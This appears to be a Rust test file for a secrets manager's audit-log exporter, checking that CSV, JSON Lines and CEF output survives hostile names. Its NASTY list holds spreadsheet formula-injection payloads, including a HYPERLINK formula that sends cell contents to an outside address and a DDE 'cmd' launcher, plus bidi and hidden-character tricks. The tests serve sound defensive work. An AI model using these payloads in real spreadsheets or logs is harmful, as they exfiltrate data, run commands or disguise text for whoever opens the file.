use std::path::Path;
use std::process::Command;

use proptest::prelude::*;
use serde_json::{Map, Value};
use strongroom_format::agency::{AgentCall, CallOutcome};
use strongroom_format::event::EventKind;
use strongroom_format::id::{AgentId, DeviceId, EnvId, Principal, SecretId, TokenId, UserId};

use super::text::{read_guarded, read_shown, shown};
use super::*;
use crate::log::Verdict;

/// Which columns somebody else chose the text of.
const FOREIGN: [&str; 9] =
    ["who", "environment", "secret", "peer", "agent", "method", "host", "path", "process"];

/// Names that run, hide, break lines or turn around in one program or another.
const NASTY: [&str; 44] = [
    "",
    "plain",
    "=1+1",
    "=HYPERLINK(\"http://192.0.2.1/?\"&A1,\"x\")",
    "+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1)",
    "\t=1",
    "\r=1",
    "\n=1",
    " =1",
    "'=1",
    "'",
    "''",
    "\u{ff1d}1",
    "\u{ff0b}1",
    "\u{ff0d}1",
    "\u{ff20}1",
    "a,b",
    "a;=1",
    "a\"b",
    "\"",
    "\"\"",
    "a\nb",
    "a\r\nb",
    "a\0b",
    "a|b",
    "a=b c=d",
    "a\\b",
    "\\",
    "\\u202e",
    "\\\\u0041\\",
    "C:\\users\\u",
    "\u{202e}drowssap",
    "\u{2066}a\u{2069}",
    "\u{5e9}\u{5dc}\u{5d5}\u{5dd}",
    "\u{645}\u{631}\u{62d}\u{628}\u{627} (prod)",
    "\u{1f468}\u{200d}\u{1f469}\u{200d}\u{1f467}",
    "\u{65e5}\u{672c}\u{8a9e}",
    "zero\u{200b}width\u{feff}",
    "tag\u{e0041}\u{e007f}",
    "line\u{2028}separator",
    "\u{7f}\u{80}\u{9f}\u{85}",
    "NULL",
];

fn record(n: u64, who: &str, env: &str, secret: &str, peer: &str) -> Record {
    let id = [u8::try_from(n % 251).unwrap(); 16];
    let principals = [
        Some(Principal::User(UserId(id))),
        Some(Principal::Token(TokenId(id))),
        Some(Principal::Agent(AgentId(id))),
        None,
    ];
    let kinds = EventKind::ALL;
    let pick = usize::try_from(n).unwrap();
    Record {
        entry: n,
        at_ms: 1_790_000_000_000 + n * 1_001,
        verdict: Verdict::ALL[pick % 5],
        kind: kinds[pick % kinds.len()],
        who: principals[pick % 4],
        who_name: Some(who.to_owned()),
        device: DeviceId(id),
        env: EnvId(id),
        env_name: Some(env.to_owned()),
        secret: SecretId(id),
        secret_name: Some(secret.to_owned()),
        version: n % 3,
        number: if n.is_multiple_of(7) { u64::MAX - n } else { n },
        status: if n.is_multiple_of(2) { 403 } else { 0 },
        peer: peer.to_owned(),
        leaf: [7; 32],
        agent: (!n.is_multiple_of(3)).then_some(AgentId(id)),
        agent_name: Some(env.to_owned()),
        call: (!n.is_multiple_of(5)).then(|| AgentCall {
            method: secret.to_owned(),
            host: peer.to_owned(),
            path: who.to_owned(),
            process: env.to_owned(),
            outcome: CallOutcome::Done,
        }),
    }
}

/// Every nasty name in every column.
fn nasty() -> Vec<Record> {
    let name = |n: usize| NASTY[n % NASTY.len()];
    let make = |n: usize| record(n as u64, name(n), name(n + 1), name(n + 2), name(n + 3));
    (0..NASTY.len()).map(make).collect()
}

fn export(format: Format, records: &[Record]) -> Vec<u8> {
    let mut exporter = Exporter::begin(format, Vec::new()).unwrap();
    for record in records {
        exporter.row(record).unwrap();
    }
    exporter.finish().unwrap()
}

/// What a record says in a column, as text.
fn said(record: &Record, column: &str) -> String {
    let place = COLUMNS.iter().position(|name| *name == column).unwrap();
    match record.cells()[place].clone() {
        record::Cell::Nothing => String::new(),
        record::Cell::Number(n) => n.to_string(),
        record::Cell::Plain(text) | record::Cell::Foreign(text) => text,
    }
}

/// The text of a cell as it went in.
fn read_cell(column: &str, cell: &str) -> String {
    if FOREIGN.contains(&column) {
        read_shown(read_guarded(cell)).unwrap()
    } else {
        cell.to_owned()
    }
}

fn run(program: &str, arguments: &[&str]) -> String {
    let output = Command::new(program).args(arguments).output();
    let output = output.unwrap_or_else(|_| panic!("{program} is needed: scripts/test installs it"));
    let errors = String::from_utf8_lossy(&output.stderr);
    assert!(output.status.success() && errors.is_empty(), "{program}: {errors}");
    String::from_utf8(output.stdout).unwrap()
}

fn kept(folder: &Path, format: Format, records: &[Record]) -> String {
    let path = folder.join(format!("log.{}", format.ending()));
    std::fs::write(&path, export(format, records)).unwrap();
    path.to_str().unwrap().to_owned()
}

#[test]
fn sqlite_imports_exactly_what_went_in() {
    let folder = tempfile::tempdir().unwrap();
    let records = nasty();
    let path = kept(folder.path(), Format::Csv, &records);
    let import = format!(".import --csv {path} log");
    let columns = COLUMNS.map(|name| format!("'{name}', \"{name}\"")).join(",");
    let select = format!("select json_object({columns}) from log order by rowid");
    let said_by_sqlite = run("sqlite3", &[":memory:", &import, &select]);
    let rows: Vec<Map<String, Value>> =
        said_by_sqlite.lines().map(|line| serde_json::from_str(line).unwrap()).collect();
    assert_eq!(rows.len(), records.len(), "a row is a row");
    for (row, record) in rows.iter().zip(&records) {
        for column in COLUMNS {
            let cell = row[column].as_str().unwrap();
            assert_eq!(read_cell(column, cell), said(record, column), "{column}");
        }
    }
    // And as a database would be asked.
    let count = "select count(*) from log where outcome = 'refused' and who_kind = 'token'";
    let refused = |record: &&Record| {
        said(record, "outcome") == "refused" && said(record, "who_kind") == "token"
    };
    let expected = records.iter().filter(refused).count();
    assert!(expected > 0);
    assert_eq!(run("sqlite3", &[":memory:", &import, count]).trim(), expected.to_string());
}

#[test]
fn jq_reads_exactly_what_went_in() {
    let folder = tempfile::tempdir().unwrap();
    let records = nasty();
    let path = kept(folder.path(), Format::JsonLines, &records);
    let read = run("jq", &["-c", ".", &path]);
    let rows: Vec<Map<String, Value>> =
        read.lines().map(|line| serde_json::from_str(line).unwrap()).collect();
    assert_eq!(rows.len(), records.len());
    for (row, record) in rows.iter().zip(&records) {
        assert_eq!(row.keys().count(), COLUMNS.len());
        for column in COLUMNS {
            let value = match &row[column] {
                Value::Null => String::new(),
                Value::Number(n) => n.to_string(),
                Value::String(text) => text.clone(),
                other => panic!("{column}: {other}"),
            };
            assert_eq!(value, said(record, column), "{column}");
        }
    }
    let names = run("jq", &["-r", "select(.entry == 33) | .who", &path]);
    assert_eq!(names, "\u{202e}drowssap\n");
}

#[test]
fn no_file_holds_a_character_that_hides_or_a_cell_that_runs() {
    let records = nasty();
    for format in Format::ALL {
        let text = String::from_utf8(export(format, &records)).unwrap();
        let hidden = text.chars().find(|c| text::is_hidden(*c) && *c != '\n');
        assert_eq!(hidden, None, "{format:?}");
        let lines = records.len() + usize::from(format == Format::Csv);
        assert_eq!(text.lines().count(), lines, "{format:?}: a row is a line");
    }
    let csv = export(Format::Csv, &records);
    let mut reader = ::csv::Reader::from_reader(csv.as_slice());
    for row in reader.records() {
        for cell in &row.unwrap() {
            let first = cell.chars().next();
            assert!(!first.is_some_and(|c| "=+-@\t\r\u{ff1d}".contains(c)), "{cell:?}");
        }
    }
}

#[test]
fn what_does_not_apply_is_empty_and_a_drills_proof_is_no_secret() {
    use strongroom_format::encoding::Codec as _;
    use strongroom_format::event::{Act, Detail, Event};
    use strongroom_format::hash::ZERO;
    use strongroom_format::id::OrgId;

    let act = Act {
        org: OrgId([1; 32]),
        kind: EventKind::Drilled,
        actor: None,
        device: DeviceId::ZERO,
        actor_seq: 1,
        actor_prev: ZERO,
        org_head: ZERO,
        detail: Detail { secret: SecretId([9; 16]), ..Detail::status(0) },
        agency: None,
    };
    let event = Event { act, signature: [1; 64], server_time_ms: 5, peer: String::new() };
    let record = Record::of(3, Verdict::Gap, &event, ZERO, None, None);
    let text = String::from_utf8(export(Format::JsonLines, std::slice::from_ref(&record))).unwrap();
    assert!(text.contains(r#""secret_id":null,"secret":null,"version":null,"number":0"#), "{text}");
    assert!(text.contains(r#""level":"signed","flaw":"gap","kind":"drilled""#), "{text}");
    assert!(text.contains(r#""who_id":null"#) && text.contains(r#""peer":null"#), "{text}");
    let csv = String::from_utf8(export(Format::Csv, &[record])).unwrap();
    assert!(csv.starts_with(r#""entry","time","level""#), "{csv}");
    assert!(!event.encode().is_empty());
}

/// The parts of a CEF line, read as its specification says.
fn read_cef(line: &str) -> (Vec<String>, Vec<(String, String)>) {
    let split = |text: &str, at: char, most: usize| {
        let (mut parts, mut part, mut escaped) = (Vec::new(), String::new(), false);
        for c in text.chars() {
            if c == at && !escaped && parts.len() < most {
                parts.push(std::mem::take(&mut part));
            } else {
                part.push(c);
            }
            escaped = c == '\\' && !escaped;
        }
        parts.push(part);
        parts
    };
    let unescape = |text: &str, special: char| {
        let special = special.to_string();
        text.replace(&format!("\\{special}"), &special).replace("\\\\", "\\")
    };
    let mut header = split(line, '|', 7);
    let extension = header.pop().unwrap();
    // Each part but the last ends with the next key.
    let parts = split(&extension, '=', usize::MAX);
    let mut fields = Vec::new();
    let mut key = parts[0].clone();
    for (n, part) in parts.iter().enumerate().skip(1) {
        let (value, next) = match part.rsplit_once(' ') {
            Some((value, next)) if n + 1 < parts.len() => (value, next),
            _ => (part.as_str(), ""),
        };
        fields.push((key, unescape(value, '=')));
        key = next.to_owned();
    }
    (header.iter().map(|part| unescape(part, '|')).collect(), fields)
}

#[test]
fn a_collector_reads_every_field_of_a_cef_line() {
    let record = record(2, "a=b \\ c|d", "shop / prod", "K=V", "192.0.2.7:1234");
    let line = String::from_utf8(export(Format::Cef, std::slice::from_ref(&record))).unwrap();
    let (header, fields) = read_cef(line.trim_end());
    assert_eq!(header[..3], ["CEF:0", "Strongroom", "Audit log"]);
    assert_eq!(header[4..], ["revealed", "Revealed", "4"]);
    let field =
        |key: &str| fields.iter().find(|(name, _)| name == key).map(|(_, value)| value.as_str());
    assert_eq!(field("suser"), Some("a=b \\ c|d"));
    assert_eq!((field("src"), field("spt")), (Some("192.0.2.7"), Some("1234")));
    assert_eq!((field("rt"), field("externalId")), (Some("1790000002002"), Some("2")));
    assert_eq!((field("secret"), field("environment")), (Some("K=V"), Some("shop / prod")));
    assert_eq!((field("dhost"), field("request")), (Some("192.0.2.7:1234"), Some("a=b \\ c|d")));
    let six = Record { peer: "[2001:db8::1]:80".into(), ..record };
    let line = String::from_utf8(export(Format::Cef, &[six])).unwrap();
    assert!(line.contains(" c6a2=2001:db8::1 c6a2Label=Source IPv6 Address spt=80 "), "{line}");
}

fn any_text() -> impl Strategy<Value = String> {
    let nasty = prop::sample::select(NASTY.to_vec()).prop_map(str::to_owned);
    let letters = prop::sample::select(
        "=+-@'\"\\u0aé|,; \t\r\n\0\u{202e}\u{200b}\u{e0041}".chars().collect::<Vec<_>>(),
    );
    let mixed = prop::collection::vec(prop_oneof![letters, any::<char>()], 0..12);
    prop_oneof![nasty, mixed.prop_map(|chars| chars.into_iter().collect())]
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(3_000))]

    #[test]
    fn every_text_is_read_back_from_every_format(
        n in 0..10_000_u64, who in any_text(), env in any_text(), secret in any_text(),
        peer in any_text(),
    ) {
        let record = record(n, &who, &env, &secret, &peer);
        prop_assert_eq!(read_shown(&shown(&who)), Some(who));

        let csv = export(Format::Csv, std::slice::from_ref(&record));
        let mut reader = ::csv::Reader::from_reader(csv.as_slice());
        let row = reader.records().next().unwrap().unwrap();
        for (column, cell) in COLUMNS.iter().zip(&row) {
            prop_assert_eq!(read_cell(column, cell), said(&record, column));
        }

        let json = export(Format::JsonLines, std::slice::from_ref(&record));
        let row: Map<String, Value> = serde_json::from_slice(&json).unwrap();
        for column in FOREIGN {
            let value = row[column].as_str().unwrap_or("");
            prop_assert_eq!(value, said(&record, column));
        }

        let cef = String::from_utf8(export(Format::Cef, std::slice::from_ref(&record))).unwrap();
        prop_assert_eq!(cef.matches('\n').count(), 1);
        let (_, fields) = read_cef(&cef[..cef.len() - 1]);
        for (column, key) in [("who", "suser"), ("environment", "environment"), ("secret", "secret")] {
            let field = fields.iter().find(|(name, _)| name == key);
            let value = field.map_or(String::new(), |(_, value)| read_shown(value).unwrap());
            prop_assert_eq!(value, said(&record, column), "{}", cef);
        }
    }
}
